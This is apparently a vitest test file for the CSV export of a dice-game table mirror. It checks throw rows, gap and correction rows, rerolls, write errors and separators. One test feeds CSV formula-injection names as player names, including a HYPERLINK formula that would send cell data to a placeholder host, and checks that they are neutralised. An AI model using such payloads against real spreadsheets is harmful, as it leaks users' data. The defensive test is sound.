/**
 * The throw CSV (`mirror --csv`): per-throw counts of target faces and ravens from the throw's own
 * dice (a first throw's from the target chosen next), virtual rolls told from entered throws, and
 * a correction pointing at the row it replaces.
 */
import { describe, expect, it } from 'vitest';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { ActionLogWriter, THROW_CSV_HEADER } from '../../host/src/mirror/action-log-writer';
import { CSV_BOM } from '../../host/src/csv-table';
import { setupPechvogel } from '../../shared/games/pechvogel/setup';
import type { PvState } from '../../shared/games/pechvogel/types';
import { HostError } from '../../host/src/errors';
import { scratchDir } from '../support/host-harness';
import { fakeTable } from '../support/fake-table';
import { gameDef } from '../../shared/engine/games';


function rows(file: string): Record<string, string>[] {
  const [head, ...lines] = readFileSync(file, 'utf8').trim().split('\n');
  const cols = head.split(',');
  return lines.map((l) => Object.fromEntries(l.split(',').map((v, i) => [cols[i], v])));
}

/** Ann and Ben's game (seed 11) on a fake table, mirrored into a fresh throws.csv (and logs/ when asked), synced. */
function annAndBen(withLogs = false): { csv: string; logs: string; f: ReturnType<typeof fakeTable> } {
  const dir = scratchDir('dt-csv-');
  const csv = path.join(dir, 'throws.csv');
  const logs = path.join(dir, 'logs');
  const s = setupPechvogel({ players: ['Ann', 'Ben'], seed: 11 });
  if (!s.ok) throw new Error('setup');
  const f = fakeTable(s.state);
  new ActionLogWriter({ dir: withLogs ? logs : null, csv }).attach(f.table);
  f.sync();
  return { csv, logs, f };
}

describe('mirror --csv throw rows', () => {
  it('counts each throw\'s own target faces and ravens, marks virtual rolls and corrections', () => {
    const { csv, f } = annAndBen();
    f.act({ do: 'throw', faces: ['R', 7, 6, 5, 5, 4, 6] });
    expect(rows(csv)).toHaveLength(0); // the first throw waits for its target
    f.act({ do: 'choose_target', value: 6 });
    f.act({ do: 'throw', faces: [3, 7, 6, 4] });
    f.act({ do: 'throw', faces: [4, 6, 4] }); // ends the turn
    f.act({ do: 'correct', faces: [6, 6, 4] });
    f.act({ do: 'take_marker' });
    f.act({ do: 'roll' });
    const r = rows(csv);
    expect(r.map((x) => [x.n, x.player, x.kind, x.source, x.faces, x.target, x.targets, x.ravens, x.corrects])).toEqual([
      ['1', 'Ann', 'first', 'entered', 'R 7 6 5 5 4 6', '6', '2', '1', ''],
      ['3', 'Ann', 'throw', 'entered', '3 7 6 4', '6', '1', '0', ''],
      ['4', 'Ann', 'throw', 'entered', '4 6 4', '6', '1', '0', ''],
      ['5', 'Ann', 'correct', 'entered', '6 6 4', '6', '2', '0', '4'],
    ]);
    f.act({ do: 'choose_target', value: (f.table.model.state as PvState).turn.first_faces!.find((x) => x !== 'R') });
    const roll = rows(csv)[4];
    expect(roll).toMatchObject({ player: 'Ben', kind: 'first', source: 'virtual', dice: '7' });
    const faces = roll.faces.split(' ');
    expect(Number(roll.targets)).toBe(faces.filter((x) => x === roll.target).length);
    expect(Number(roll.ravens)).toBe(faces.filter((x) => x === 'R').length);
  });

  it('a correction of a throw that ended the turn (a third raven) is the thrower\'s row, with that turn\'s target', () => {
    const { csv, f } = annAndBen();
    f.act({ do: 'throw', faces: ['R', 7, 6, 5, 5, 4, 6] });
    f.act({ do: 'choose_target', value: 6 });
    f.act({ do: 'throw', faces: [3, 'R', 'R', 4] });
    // The third raven ended Ann's turn: Ben is to throw when the correction comes.
    expect((f.table.model.state as PvState).phase).toBe('await_first_throw');
    expect((f.table.model.state as PvState).active).toBe(1);
    f.act({ do: 'correct', faces: [3, 'R', 6, 4] });
    expect(rows(csv).map((x) => [x.n, x.player, x.kind, x.faces, x.target, x.targets, x.ravens, x.corrects])).toEqual([
      ['1', 'Ann', 'first', 'R 7 6 5 5 4 6', '6', '2', '1', ''],
      ['3', 'Ann', 'throw', '3 R R 4', '6', '0', '2', ''],
      ['4', 'Ann', 'correct', '3 R 6 4', '6', '1', '1', '3'],
    ]);
  });

  it('a reroll\'s row says whose reroll it is: reroll_reduce (the thrower\'s) or reroll_frustrate (the opponents\')', () => {
    const csv = path.join(scratchDir('dt-csv-'), 'throws.csv');
    const given = {
      players: [{ name: 'A', markers: [], frustrations: 1 }, { name: 'B', markers: [], frustrations: 2 }, { name: 'C', markers: [], frustrations: 0 }],
      active: 'A', middle: { 3: 3, 4: 3, 5: 3, 6: 3, 7: 3 }, murphy: null, turn: { target: 7, board: { targets: 1, ravens: 0 } },
    };
    const s = gameDef('pechvogel')!.fromGiven(given, {});
    if (!s.ok) throw new Error('given');
    const w = new ActionLogWriter({ dir: null, csv });
    const reduced = fakeTable(s.state as PvState, 'T1');
    const frustrated = fakeTable(s.state as PvState, 'T2');
    w.attach(reduced.table);
    w.attach(frustrated.table);
    reduced.sync();
    frustrated.sync();
    for (const [f, decision] of [[reduced, { do: 'reduce' }], [frustrated, { do: 'frustrate', by: ['B'] }]] as const) {
      f.act({ do: 'throw', faces: [7, 3, 4, 5, 6, 'R'] }); // eligible: the reroll window opens
      f.act(decision);
      f.act({ do: 'throw', faces: [7, 7, 3, 4, 5, 6] });
    }
    expect(rows(csv).map((x) => [x.table, x.n, x.player, x.kind, x.faces, x.targets, x.ravens])).toEqual([
      ['T1', '1', 'A', 'throw', '7 3 4 5 6 R', '1', '1'],
      ['T1', '3', 'A', 'reroll_reduce', '7 7 3 4 5 6', '2', '0'],
      ['T2', '1', 'A', 'throw', '7 3 4 5 6 R', '1', '1'],
      ['T2', '3', 'A', 'reroll_frustrate', '7 7 3 4 5 6', '2', '0'],
    ]);
  });

  it('a gap row where the mirror picked the table up again after it played on unseen (never where nothing was missed)', () => {
    const { csv, logs, f } = annAndBen(true);
    f.act({ do: 'throw', faces: ['R', 7, 6, 5, 5, 4, 6] });
    f.act({ do: 'choose_target', value: 6 });
    f.sync(); // a resync with nothing missed
    expect(rows(csv).map((x) => x.kind)).toEqual(['first']);
    // The table plays on while the mirror does not see it.
    f.unseen({ do: 'throw', faces: [3, 7, 6, 4] });
    f.sync();
    const gap = rows(csv)[1];
    expect(gap).toMatchObject({ n: '3', player: 'Ann', kind: 'gap', source: '', dice: '', faces: '', target: '6', phase: 'await_throw' });
    // Its local_time is its own time's second, as every row's (local_time is last).
    expect(gap.local_time).toBe(gap.time.slice(0, 19));
    f.act({ do: 'throw', faces: [6, 4, 4] });
    expect(rows(csv).map((x) => x.kind)).toEqual(['first', 'gap', 'throw']);
    // A mirror started again where the table's log ends: no gap; one that finds the game moved on: a gap.
    const w2 = new ActionLogWriter({ dir: logs, csv });
    const same = fakeTable(f.table.model.state as PvState);
    w2.attach(same.table);
    same.sync();
    expect(rows(csv)).toHaveLength(3);
    const w3 = new ActionLogWriter({ dir: logs, csv });
    f.unseen({ do: 'take_marker' });
    const later = fakeTable(f.table.model.state as PvState);
    w3.attach(later.table);
    later.sync();
    expect(rows(csv).map((x) => x.kind)).toEqual(['first', 'gap', 'throw', 'gap']);
  });

  it('around a gap: the first throw seen goes before it, a correction after it points at no row from before, a game ended or begun unseen is a gap', () => {
    const { csv, f } = annAndBen();
    f.act({ do: 'throw', faces: ['R', 7, 6, 5, 5, 4, 6] }); // seen; its target comes unseen
    f.unseen({ do: 'choose_target', value: 6 });
    f.unseen({ do: 'throw', faces: [3, 7, 6, 4] });
    f.sync();
    f.act({ do: 'correct', faces: [6, 7, 6, 4] }); // corrects the unseen throw n=3
    const r = rows(csv);
    expect(r.map((x) => [x.n, x.kind, x.target, x.corrects])).toEqual([
      ['1', 'first', '', ''],
      ['3', 'gap', '6', ''],
      ['4', 'correct', '6', ''],
    ]);
    // The game ends unseen (no game on the board), then another begins unseen.
    f.replace(null);
    f.sync();
    const again = setupPechvogel({ players: ['Cleo', 'Dan'], seed: 3 });
    if (!again.ok) throw new Error('setup');
    f.replace(again.state);
    f.sync(); // a fresh game after none: nothing of it missed
    expect(rows(csv).map((x) => [x.n, x.kind, x.phase])).toEqual([
      ['1', 'first', 'await_target'],
      ['3', 'gap', 'await_throw'],
      ['4', 'correct', 'await_marker_choice'],
      ['', 'gap', ''],
    ]);
  });

  it('no gap row for a rematch or a cleared table watched as it happened (a stray gap at n=0 said throws were missing)', () => {
    const { csv, f } = annAndBen();
    f.act({ do: 'throw', faces: ['R', 7, 6, 5, 5, 4, 6] });
    f.act({ do: 'choose_target', value: 6 });
    const next = setupPechvogel({ players: ['Ann', 'Ben'], start: 1, seed: 12 });
    if (!next.ok) throw new Error('setup');
    f.newInView(next.state);
    f.act({ do: 'throw', faces: [3, 3, 4, 5, 6, 7, 'R'] });
    f.act({ do: 'choose_target', value: 3 });
    f.newInView(null); // abandoned in view
    expect(rows(csv).map((x) => [x.n, x.player, x.kind])).toEqual([
      ['1', 'Ann', 'first'],
      ['1', 'Ben', 'first'],
    ]);
    // In view, but played on before its snapshot came: those throws were not seen.
    const third = setupPechvogel({ players: ['Ann', 'Ben'], seed: 13 });
    if (!third.ok) throw new Error('setup');
    f.replace(third.state);
    f.unseen({ do: 'throw', faces: [3, 3, 4, 5, 6, 7, 'R'] });
    f.newInView(f.table.model.state);
    expect(rows(csv).map((x) => x.kind)).toEqual(['first', 'first', 'gap']);
  });

  it('no gap row where a new game or an empty table replaced one in which nothing was played yet', () => {
    const { csv, f } = annAndBen();
    const other = setupPechvogel({ players: ['Cleo', 'Dan'], seed: 3 });
    if (!other.ok) throw new Error('setup');
    f.replace(other.state);
    f.sync();
    f.replace(null);
    f.sync();
    expect(rows(csv)).toEqual([]);
  });

  it('a first throw whose target is chosen after the mirror restarted still gets its row (the waiting row died with the old mirror, and no gap row said so)', () => {
    const dir = scratchDir('dt-csv-');
    const csv = path.join(dir, 'throws.csv');
    const logs = path.join(dir, 'logs');
    const s = setupPechvogel({ players: ['Ann', 'Ben'], seed: 11 });
    if (!s.ok) throw new Error('setup');
    const f1 = fakeTable(s.state);
    new ActionLogWriter({ dir: logs, csv }).attach(f1.table);
    f1.sync();
    f1.act({ do: 'throw', faces: ['R', 7, 6, 5, 5, 4, 6] });
    f1.act({ do: 'choose_target', value: 6 });
    f1.act({ do: 'throw', faces: [3, 7, 6, 4] });
    f1.act({ do: 'throw', faces: [6, 6, 6] }); // four sixes: the marker step
    f1.act({ do: 'take_marker' });
    f1.act({ do: 'throw', faces: [3, 3, 4, 'R', 5, 7, 7] }); // Ben's first throw: waits for its target
    expect(rows(csv).map((x) => x.n)).toEqual(['1', '3', '4']);
    // The mirror is stopped and started again; the board did not move on: the same log goes on.
    const f2 = fakeTable(f1.table.model.state as PvState);
    new ActionLogWriter({ dir: logs, csv }).attach(f2.table);
    f2.sync();
    f2.act({ do: 'choose_target', value: 7 });
    f2.act({ do: 'throw', faces: [7, 'R', 5, 4] });
    expect(rows(csv).map((x) => [x.n, x.player, x.kind, x.source, x.faces, x.target, x.targets, x.ravens])).toEqual([
      ['1', 'Ann', 'first', 'entered', 'R 7 6 5 5 4 6', '6', '2', '1'],
      ['3', 'Ann', 'throw', 'entered', '3 7 6 4', '6', '1', '0'],
      ['4', 'Ann', 'throw', 'entered', '6 6 6', '6', '3', '0'],
      ['6', 'Ben', 'first', 'entered', '3 3 4 R 5 7 7', '7', '2', '1'],
      ['8', 'Ben', 'throw', 'entered', '7 R 5 4', '7', '1', '1'],
    ]);
  });

  it('a CSV in a folder that does not exist is refused before anything is created, saying so', () => {
    const dir = scratchDir('dt-csv-');
    const e = (() => {
      try {
        new ActionLogWriter({ dir: null, csv: path.join(dir, 'typo', 'throws.csv') });
      } catch (x) {
        return x as HostError;
      }
      throw new Error('taken');
    })();
    expect(e.message).toBe(`cannot write ${path.join(dir, 'typo', 'throws.csv')}: no directory ${path.join(dir, 'typo')}`);
    expect(e.hint).toMatch(/an existing directory/);
  });

  it('refuses to append to a CSV with other columns (rows would sit under the wrong header)', () => {
    const dir = scratchDir('dt-csv-');
    const old = path.join(dir, 'old.csv');
    writeFileSync(old, 'time,table,log,n,player,kind,dice,faces,target,targets,ravens,phase\n');
    expect(() => new ActionLogWriter({ dir: null, csv: old })).toThrow(HostError);
    const fresh = path.join(dir, 'new.csv');
    new ActionLogWriter({ dir: null, csv: fresh });
    expect(readFileSync(fresh, 'utf8')).toBe(CSV_BOM + THROW_CSV_HEADER + '\n');
  });

  it('a write that fails mid-game (directory gone) is reported once and the mirror goes on', () => {
    const dir = path.join(scratchDir('dt-csv-'), 'sub');
    mkdirSync(dir);
    const s = setupPechvogel({ players: ['Ann', 'Ben'] });
    if (!s.ok) throw new Error('setup');
    const errors: string[] = [];
    const w = new ActionLogWriter({ dir: path.join(dir, 'logs'), csv: path.join(dir, 't.csv'), onError: (_t, m) => errors.push(m) });
    const f = fakeTable(s.state);
    w.attach(f.table);
    f.sync();
    rmSync(dir, { recursive: true });
    expect(() => {
      f.act({ do: 'throw', faces: ['R', 7, 6, 5, 5, 4, 6] });
      f.act({ do: 'choose_target', value: 6 });
      f.act({ do: 'throw', faces: [3, 7, 6, 4] });
    }).not.toThrow();
    // The log file and the CSV each said once, not at every action.
    expect(errors).toHaveLength(2);
    for (const e of errors) expect(e).toMatch(/^cannot write .*: no such file or directory$/);
  });
});

describe('mirror --csv: names are data, not formulas', () => {
  // A kiosk board takes `new` from anyone on its USB port, names and all.
  it('writes a player name a spreadsheet would run as a formula with a leading apostrophe', () => {
    const dir = scratchDir('dt-csv-');
    const csv = path.join(dir, 'throws.csv');
    const names = ['=HYPERLINK("http://x.example/?"&A1,"click")', '@SUM(1+1)', '+1', '-2', 'Ann'];
    const s = setupPechvogel({ players: names, seed: 11 });
    if (!s.ok) throw new Error('setup');
    const f = fakeTable(s.state);
    new ActionLogWriter({ dir: null, csv }).attach(f.table);
    f.sync();
    for (let i = 0; i < names.length; i++) {
      // Four of a value: the first throw ends the turn with a marker (its row is written at the target).
      const v = 3 + i, w = v === 3 ? 4 : 3;
      f.act({ do: 'throw', faces: [v, v, v, v, 'R', w, w] });
      f.act({ do: 'choose_target', value: v });
      if ((f.table.model.state as PvState).phase === 'await_marker_choice') f.act({ do: 'take_marker' });
    }
    const players = readFileSync(csv, 'utf8').trim().split('\n').slice(1).map((l) => l.split(',')[4]);
    expect(players.slice(0, 5)).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1', "'@SUM(1+1)", "'+1", "'-2", 'Ann']);
    // Numbers stay numbers: the step and the counts.
    expect(readFileSync(csv, 'utf8').split('\n')[1].split(',')[3]).toMatch(/^\d+$/);
  });
});

describe('mirror --csv --decimal-comma', () => {
  it("writes ';' between fields (a German spreadsheet's CSV), and goes on in a file only with the separator it began with", () => {
    const dir = scratchDir('dt-csv-sc-');
    const csv = path.join(dir, 'throws.csv');
    const s = setupPechvogel({ players: ['Ann', 'Jü; "J"'] });
    if (!s.ok) throw new Error('setup');
    const f = fakeTable(s.state);
    new ActionLogWriter({ dir: null, csv, decimalComma: true }).attach(f.table);
    f.sync();
    f.act({ do: 'throw', faces: ['R', 7, 6, 5, 5, 4, 6] });
    f.act({ do: 'choose_target', value: 6 });
    f.act({ do: 'throw', faces: [3, 7, 6, 4] });
    const lines = readFileSync(csv, 'utf8').trim().split('\n');
    expect(lines[0]).toBe(THROW_CSV_HEADER.replace(/,/g, ';'));
    expect(lines[1].split(';').slice(3, 9)).toEqual(['1', 'Ann', 'first', 'entered', '7', 'R 7 6 5 5 4 6']);
    // A name with the separator is quoted.
    f.act({ do: 'throw', faces: [6, 3, 3] });
    f.act({ do: 'take_marker' });
    f.act({ do: 'throw', faces: [3, 3, 4, 4, 5, 5, 6] });
    f.act({ do: 'choose_target', value: 3 });
    expect(readFileSync(csv, 'utf8')).toContain(';"Jü; ""J""";first;');
    // The other separator: refused, with what to do.
    const e = (() => {
      try {
        new ActionLogWriter({ dir: null, csv });
      } catch (x) {
        return x as HostError;
      }
      return null;
    })();
    expect(e).toBeInstanceOf(HostError);
    expect(e!.message).toMatch(/separates its fields with ';'/);
    expect(e!.hint).toMatch(/add --decimal-comma/);
    expect(() => new ActionLogWriter({ dir: null, csv, decimalComma: true })).not.toThrow();
  });
});
